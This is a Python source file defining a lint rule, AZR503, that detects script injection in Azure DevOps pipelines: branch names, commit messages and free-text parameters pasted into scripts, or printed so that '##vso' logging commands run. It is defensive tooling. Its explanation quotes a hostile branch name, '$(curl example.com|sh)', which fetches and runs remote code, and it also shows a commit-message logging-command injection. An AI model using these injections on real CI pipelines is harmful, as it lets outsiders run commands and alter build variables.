"""AZR503: text of strangers in scripts."""

import re
from collections.abc import Iterator

from yaml import ScalarNode

from azrelease.diagnostics import Code, Diagnostic, Severity
from azrelease.lint.facts.scripts import Script
from azrelease.lint.linted_file import LintedFile
from azrelease.lint.rule import Rule
from azrelease.syntax.embedded import macros, template_expressions

_STRANGERS = frozenset(
    (
        "build.sourcebranch",
        "build.sourcebranchname",
        "build.sourceversionmessage",
        "build.sourceversionauthor",
        "build.requestedfor",
        "system.pullrequest.sourcebranch",
        "system.pullrequest.sourcebranchname",
    )
)
"""Variables whose text is chosen by whoever names a branch or writes a commit.

Source: learn.microsoft.com/azure/devops/pipelines/build/variables.
"""

_VARIABLE = re.compile(r"variables(?:\[\s*'([^']+)'\s*\]|\.(\w+))", re.IGNORECASE)
_NOT_YET = frozenset(("build.sourceversionmessage", "system.pullrequest.sourcebranchname"))
"""What is not known yet when templates are expanded: it is empty there."""

_DECIDES = re.compile(
    r"\s*(?:eq|ne|and|or|xor|not|in|notIn|contains|containsValue|startsWith|endsWith|gt|ge|lt|le|length)\s*\(",
    re.IGNORECASE,
)
"""Functions that come out as true, false or a number, whatever text they look at."""

_PARAMETER = re.compile(r"\s*parameters(?:\.(\w+)|\[\s*'([^']+)'\s*\])\s*", re.IGNORECASE)


_SPELLED = ("Build.SourceVersionMessage", "Build.SourceVersionAuthor", "Build.RequestedFor")
_ANY_TEXT = frozenset(name.casefold() for name in _SPELLED)
"""Those that can hold a logging command: a branch cannot have `[` in its name (git-scm.com/docs/git-check-ref-format)."""

_PRINTS = {
    "bash": (r"(?:echo|printf)\b", r"\$(?:{name}\b|\{{{name}\}})"),
    "powershell": (r"(?:echo|Write-(?:Host|Output|Information))\b", r"\$(?:env:{name}\b|\{{env:{name}\}})"),
}
"""How a language prints, and how it reads a variable of the environment."""

_MACRO = re.compile(r"\$\(([\w.]+)\)")


def check(file: LintedFile) -> Iterator[Diagnostic]:
    """Variables by macro or template expression; parameters that a person fills in with any text; what is printed."""
    for script in file.scripts:
        if "$" not in script.text:
            continue
        yield from _printed(file, script)
        for found in macros(script.text):
            if found[1].casefold() in _STRANGERS and not _in_comment(script, found.start()):
                message = f"`{found[0]}` is pasted into the script: whoever names a branch or writes a commit can run commands"
                where = (script, found.start(), found.end())
                yield file.in_script(RULE.code, message, where, _instead(found[1], script))
        for part in template_expressions(script.text):
            yield from _in_template(file, script, part.text or "", (script, part.start, part.end))


def _printed(file: LintedFile, script: Script) -> Iterator[Diagnostic]:
    """Text of strangers that a script prints from its environment: the agent runs the logging commands in it."""
    target = script.step.block.block("target")
    restricted = target is not None and target.entry("commands") is not None
    if script.language not in _PRINTS or restricted:
        return
    printing, reading = _PRINTS[script.language]
    for name, source in _environment(script).items():
        # A pipe, a file or a substitution may take the text elsewhere; single quotes keep the name as it is.
        variable = reading.format(name=re.escape(name))
        pattern = rf"^[ \t]*{printing}[^|>;&'`\n]*?(?P<variable>{variable})[^|>;&`\n]*$"
        flags = re.MULTILINE | (re.IGNORECASE if script.language == "powershell" else 0)
        for found in re.finditer(pattern, script.text, flags):
            if "-replace" in found[0] or ".Replace" in found[0]:
                continue
            message = f"this prints `{source}`: a logging command in it, such as `##vso[task.setvariable …]`, is run"
            where = (script, found.start("variable"), found.end("variable"))
            yield file.in_script(RULE.code, message, where, f"Do not print it, or {_RESTRICT}.")


_RESTRICT = "give the step `target: {commands: restricted, settableVariables: none}`"


def _environment(script: Script) -> dict[str, str]:
    """The variables of a script's environment with such text, each with what it holds."""
    found = {name.upper().replace(".", "_"): name for name in _SPELLED}
    for block, _ in script.step.block.blocks("env"):
        for entry in block.entries:
            macro = _MACRO.fullmatch(entry.value.value.strip()) if isinstance(entry.value, ScalarNode) else None
            if macro is not None and macro[1].casefold() in _ANY_TEXT:
                found[entry.name] = macro[1]
    return found


def _in_comment(script: Script, position: int) -> bool:
    return script.language != "cmd" and script.line_before(position).startswith("#")


def _in_template(file: LintedFile, script: Script, text: str, where: tuple[Script, int, int]) -> Iterator[Diagnostic]:
    for variable in () if _DECIDES.match(text) else _VARIABLE.finditer(text):
        name = variable[1] or variable[2]
        if name.casefold() in _STRANGERS - _NOT_YET:
            message = f"`{name}` is pasted into the script: whoever names a branch or writes a commit can run commands"
            yield file.in_script(RULE.code, message, where, _instead(name, script))
    given = _PARAMETER.fullmatch(text)
    name = (given[1] or given[2]) if given else ""
    parameter = file.parameters.get(name.casefold()) if file.is_pipeline else None
    if parameter is not None and parameter.type == "string" and parameter.values is None:
        message = f"the parameter `{name}` is pasted into the script: whoever starts a run can run commands"
        hint = f"Hand it over in `env`, or list its `values`. If the script prints it, {_RESTRICT}."
        yield file.in_script(RULE.code, message, where, hint, Severity.INFO)


def _instead(name: str, script: Script) -> str:
    variable = re.sub(r"\W", "_", name).upper()
    use = f"$env:{variable}" if script.language == "powershell" else f'"${variable}"'
    if script.language == "python":
        use = f"os.environ['{variable}']"
    if script.language == "cmd":
        return "Use a script in bash or PowerShell, which can take it from the environment as data."
    printed = f" If the script prints it, {_RESTRICT}." if name.casefold() in _ANY_TEXT else ""
    return f"Take it from the environment, as data: `{use}`.{printed}"


RULE = Rule(
    code=Code("AZR503", "script-injection", Severity.WARNING),
    summary="text that a stranger chooses is pasted into a script",
    why=(
        "Macros and template expressions put their text into the script before the shell reads it: a branch called "
        '`"$(curl example.com|sh)"` runs. The environment has the same text as data '
        "(learn.microsoft.com/azure/devops/pipelines/security/inputs). Data is still text that the agent reads when a script prints it: "
        "`##vso[…]` in the message of a commit sets variables. In a step with `target: {commands: restricted, settableVariables: none}` it does not "
        "(learn.microsoft.com/azure/devops/pipelines/yaml-schema/target)."
    ),
    wrong="steps:\n- bash: ./tag.sh $(Build.SourceBranchName)\n",
    right='steps:\n- bash: ./tag.sh "$BUILD_SOURCEBRANCHNAME"\n',
    check=check,
)
